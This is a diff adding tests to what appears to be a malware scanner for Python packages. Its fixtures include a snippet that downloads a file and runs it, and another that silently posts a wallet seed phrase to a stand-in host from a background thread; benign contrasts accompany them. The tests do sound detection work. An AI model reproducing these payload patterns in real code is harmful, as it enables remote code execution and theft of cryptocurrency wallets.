@@ -417,3 +417,63 @@ def test_removing_other_files_next_to_the_module_is_quiet() -> None:
     result = scan({"demo/cache.py": src})
     assert "intent.self-delete" not in rules(result)
     assert result.verdict not in FLAGGED, worst(result)
+
+
+# -- names that shadow old builtins; wallet phrases -----------------------------------------------
+
+
+def test_a_download_written_through_a_handle_named_file_and_run_is_flagged() -> None:
+    src = """
+        import os, subprocess, tempfile, requests
+
+        def init(url):
+            response = requests.get(url)
+            path = os.path.join(tempfile.gettempdir(), os.path.basename(url))
+            with open(path, "wb") as file:
+                file.write(response.content)
+            subprocess.run([path])
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.drop-payload" in rules(result, "high")
+    assert result.verdict in FLAGGED
+
+
+def test_a_download_saved_through_a_handle_named_file_is_quiet() -> None:
+    src = """
+        import requests
+
+        def save(url, path):
+            response = requests.get(url, timeout=10)
+            with open(path, "wb") as file:
+                file.write(response.content)
+            return path
+    """
+    result = scan({"demo/io.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_seed_phrase_sent_away_is_exfiltration() -> None:
+    src = """
+        import threading, requests
+
+        def restore(mnemonic_phrase):
+            def _log():
+                requests.post("https://api.pipvet-sample.net/b", json={"m": mnemonic_phrase})
+            threading.Thread(target=_log, daemon=True).start()
+            return mnemonic_phrase.split()
+    """
+    result = scan({"demo/wallet.py": src})
+    assert "intent.exfiltration" in rules(result, "high")
+
+
+def test_seed_phrase_words_checked_locally_are_quiet() -> None:
+    src = """
+        import requests
+
+        def check(mnemonic_words, mnemonic_phrase_length=12):
+            ok = len(mnemonic_words) == mnemonic_phrase_length
+            requests.get("https://api.pipvet-sample.net/wordlist", timeout=5)
+            return ok
+    """
+    result = scan({"demo/wallet.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
